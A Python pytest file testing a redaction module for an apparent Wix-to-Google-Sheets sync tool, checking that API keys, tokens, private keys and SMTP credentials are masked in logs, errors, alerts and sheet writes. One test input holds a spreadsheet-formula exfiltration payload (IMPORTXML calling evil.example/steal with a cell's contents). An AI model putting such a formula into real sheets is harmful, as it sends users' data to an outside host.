"""The one redaction point (``sync.redact``) and each place it is applied."""

from __future__ import annotations

import base64
import json
import logging
import secrets
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests
from rich.console import Console

from sync.doctor.report import Check, Verdict
from sync.extras.alerts.channels import SendFailed, reply_text
from sync.extras.alerts.messages import Message
from sync.logs import LogfmtFormatter, setup_logging
from sync.redact import REDACTED, REDACTOR, RedactFilter, Redactor, guard_logging, shown
from sync.sheet.base import CellWrite
from sync.sheet.google_auth import _redact_error_answer, _redact_token_answer
from sync.sheet.localfile import LocalSheet
from sync.wix.errors import KeyRejected, WixAPIError
from tests.fakes.sheets import fake_service_account_info

KEY = "IST." + "k" * 8 + secrets.token_urlsafe(60)


@pytest.fixture(autouse=True)
def fresh() -> Iterator[None]:
    REDACTOR.forget()
    REDACTOR.add(KEY, name="Wix API key")
    yield
    REDACTOR.forget()


# == the redactor ================================================================================
def test_a_registered_secret_is_replaced_as_is_json_escaped_url_encoded_and_base64() -> None:
    secret = 'pa"ss/word+' + secrets.token_hex(8)
    redactor = Redactor()
    redactor.add(secret)
    for form in (
        secret,
        json.dumps(secret)[1:-1],
        requests.utils.quote(secret, safe=""),
        base64.b64encode(secret.encode()).decode(),
    ):
        assert redactor.text(f"x {form} y") == f"x {REDACTED} y"


def test_a_short_or_empty_secret_is_not_registered() -> None:
    redactor = Redactor()
    redactor.add("")
    redactor.add("abc")
    assert redactor.known == 0
    assert redactor.text("abc") == "abc"


@pytest.mark.parametrize(
    "text",
    [
        "Authorization: IST.never-registered-key-0123456789abcdef",
        '{"headers": {"Authorization": "Bearer abc.def-123"}}',
        "authorization=sk_live_0123456789",
        "Bearer ya29.a0AfH6SMBx-unknown-token",
        "token ya29.a0AfH6SMBx-unknown-token here",
        "refresh 1//0gAbCdEfGhIjKlMnOpQrStUv",
        "assertion eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJ4In0.c2lnbmF0dXJl",
        "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBg\n-----END PRIVATE KEY-----",
        '{"private_key": "-----BEGIN RSA PRIVATE KEY-----\\nMIIE\\n-----END RSA PRIVATE KEY-----"}',
        "{'private_key_id': 'f00dfeed0123456789'}",
        "access_token=ya29abcdefghijkl&x=1",
    ],
)
def test_secret_shaped_text_is_redacted_without_being_registered(text: str) -> None:
    out = Redactor().text(text)
    for piece in ("IST.never", "abc.def-123", "sk_live", "ya29", "1//0g", "eyJ", "MIIE"):
        assert piece not in out
    assert "f00dfeed" not in out
    assert REDACTED in out


@pytest.mark.parametrize(
    "text",
    [
        "Booked · 10 Swim Pass",
        "booking 5e7c0de0-0000-4000-8000-000000000001 confirmed",
        "Email 'amir.said@@example.org' has two @",
        "basic information about the class",
        'Name \'=IMPORTXML("http://evil.example/steal?c="&A1,"//a")\' is a formula',
        "https://docs.google.com/spreadsheets/d/1Xa9UoRqmVb3TnK7pLwZcE5dYhG2sJf8Q0iMvB4tNwA/edit",
        "Authorization failed: check the key",
    ],
)
def test_ordinary_words_are_left_alone(text: str) -> None:
    redactor = Redactor()
    redactor.add("a-secret-that-is-not-here-0123")
    redactor.add_private_key(fake_service_account_info()["private_key"], "0" * 40)
    assert redactor.text(text) == text


def test_a_piece_of_the_private_key_is_found_across_a_line_break() -> None:
    info = fake_service_account_info()
    redactor = Redactor()
    redactor.add_private_key(info["private_key"], info["private_key_id"])
    body = info["private_key"].splitlines()[1:-2]
    piece = body[0][40:] + "\\n" + body[1][:20]
    assert body[0][50:] not in redactor.text(f"log: {piece} end")
    assert redactor.text(info["private_key_id"]) == REDACTED


def test_smtp_login_registers_the_auth_plain_line() -> None:
    redactor = Redactor()
    redactor.add_smtp_login("owner@club.example.org", "hunter2-hunter2")
    line = base64.b64encode(b"\0owner@club.example.org\0hunter2-hunter2").decode()
    assert redactor.text(f"535 {line}") == f"535 {REDACTED}"
    assert redactor.text("pw hunter2-hunter2") == f"pw {REDACTED}"


def test_tokens_are_kept_newest_first_within_a_bound() -> None:
    redactor = Redactor()
    for index in range(60):
        redactor.add_token(f"tok-{index:03d}-abcdefgh")
    assert redactor.text("tok-059-abcdefgh") == REDACTED
    assert redactor.text("tok-000-abcdefgh") == "tok-000-abcdefgh"


def test_value_walks_dicts_lists_and_tuples() -> None:
    value = {"a": [KEY, (1, KEY)], KEY: {"b": None}}
    assert REDACTOR.value(value) == {"a": [REDACTED, (1, REDACTED)], REDACTED: {"b": None}}


@pytest.mark.parametrize("name", ["[/]", "[bold red]Ana", "[link=http://x]y[/link]"])
def test_shown_prints_markup_typed_into_a_name_as_typed(name: str) -> None:
    console = Console(record=True, width=200)
    console.print(f"row 3: {shown(name)} [red]x[/]")
    assert console.export_text().strip() == f"row 3: {name} x"


def test_shown_redacts_too() -> None:
    assert shown(f"[/] {KEY}") == f"\\[/] \\{REDACTED}"


# == the logs ====================================================================================
def test_the_filter_redacts_message_arguments_exception_and_extras() -> None:
    record = logging.LogRecord("wixsync.x", logging.ERROR, __file__, 1, "said %s", (KEY,), None)
    try:
        raise ValueError(f"answer quoted {KEY}")
    except ValueError:
        import sys

        record.exc_info = sys.exc_info()
    record.extra_field = KEY
    assert RedactFilter().filter(record)
    text = logging.Formatter().format(record) + LogfmtFormatter().format(record)
    assert KEY not in text
    assert KEY not in record.extra_field
    assert "ValueError" in text


def test_the_log_file_and_the_last_resort_handler_redact(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    logger = logging.getLogger("wixsync")
    saved = (list(logger.handlers), logger.propagate, logger.level)
    handler = setup_logging(tmp_path / "wixsync.log", level="debug")
    try:
        logging.getLogger("wixsync.test").warning("the key %s", KEY)
        handler.flush()
    finally:
        logger.removeHandler(handler)
        handler.close()
        logger.handlers[:], logger.propagate, logger.level = saved
    text = (tmp_path / "wixsync.log").read_text()
    assert "the key [redacted]" in text
    assert KEY not in text
    guard_logging()
    assert any(isinstance(f, RedactFilter) for f in logging.lastResort.filters)


# == at the source ===============================================================================
def test_wix_error_fields_are_redacted_as_they_are_read() -> None:
    body = {
        "message": f"Authorization: {KEY}",
        "details": {
            "applicationError": {"code": KEY, "description": f"bad {KEY}", "data": {"x": KEY}},
            "validationError": {"fieldViolations": [{"field": "f", "description": KEY}]},
        },
    }
    error = WixAPIError("POST", "/x", 400, body, "req-1")
    fields = (error.code, error.description, repr(error.data), repr(error.violations))
    text = " ".join([str(error), repr(error.args), *fields])
    assert KEY not in text
    assert error.description == f"bad {REDACTED}"


def test_a_wix_error_body_of_the_wrong_shape_is_no_crash() -> None:
    error = WixAPIError("POST", "/x", 400, {"details": {"applicationError": "text"}}, None)
    assert error.code == "400"
    error = WixAPIError("POST", "/x", 400, {"details": "x"}, None)
    assert error.description == ""


def test_a_key_refusal_quotes_no_key() -> None:
    assert KEY not in str(KeyRejected("GET", "/x", 401, KEY))


def test_doctor_lines_and_alert_messages_are_redacted() -> None:
    check = Check(KEY, Verdict.FAIL, f"Wix said {KEY}", f"fix {KEY}")
    assert KEY not in f"{check.name} {check.detail} {check.fix}"
    message = Message(f"s {KEY}", f"t {KEY}", [{"detail": KEY}])
    assert KEY not in json.dumps(message.to_json())


def test_an_smtp_reply_is_never_echoed_raw() -> None:
    REDACTOR.add_smtp_login("u@example.org", "p4ssw0rd-long")
    plain = base64.b64encode(b"\0u@example.org\0other-password-123").decode()
    text = reply_text(f"535 5.7.8 p4ssw0rd-long rejected {plain} at mail.example.org".encode())
    assert "p4ssw0rd-long" not in text
    assert plain not in text
    assert "mail.example.org" in text
    assert KEY not in str(SendFailed(f"x {KEY}"))


def _response(status: int, body: str) -> requests.Response:
    response = requests.Response()
    response.status_code = status
    response._content = body.encode()
    response.encoding = "utf-8"
    return response


def test_google_error_answers_are_redacted_and_the_token_answer_keeps_its_token() -> None:
    error = _response(403, json.dumps({"error": {"code": 403, "message": f"Bearer {KEY}"}}))
    _redact_error_answer(error)
    assert KEY not in error.text
    ok = _response(200, json.dumps({"values": [[KEY]]}))
    _redact_error_answer(ok)
    assert KEY in ok.text  # what volunteers typed is read as typed
    token = _response(200, json.dumps({"access_token": "ya29.new-token", "note": KEY}))
    _redact_token_answer(token)
    assert token.json() == {"access_token": "ya29.new-token", "note": REDACTED}
    empty = _response(200, json.dumps({"error_description": KEY}))
    _redact_token_answer(empty)
    assert KEY not in empty.text


def test_the_sheet_write_edge_redacts_every_value_written(tmp_path: Path) -> None:
    sheet = LocalSheet(tmp_path / "a.csv")
    sheet.create([["Name", "Error"], [f"typed {KEY}", ""]])
    sheet.write([CellWrite(1, 1, f"Wix said {KEY}")])
    sheet.write_tab("Summary", [[f"x {KEY}"]])
    text = (tmp_path / "a.csv").read_text()
    assert f"Wix said {REDACTED}" in text
    assert f"typed {KEY}" in text  # a volunteer's cell is not rewritten
    assert KEY not in sheet.tab_path("Summary").read_text()
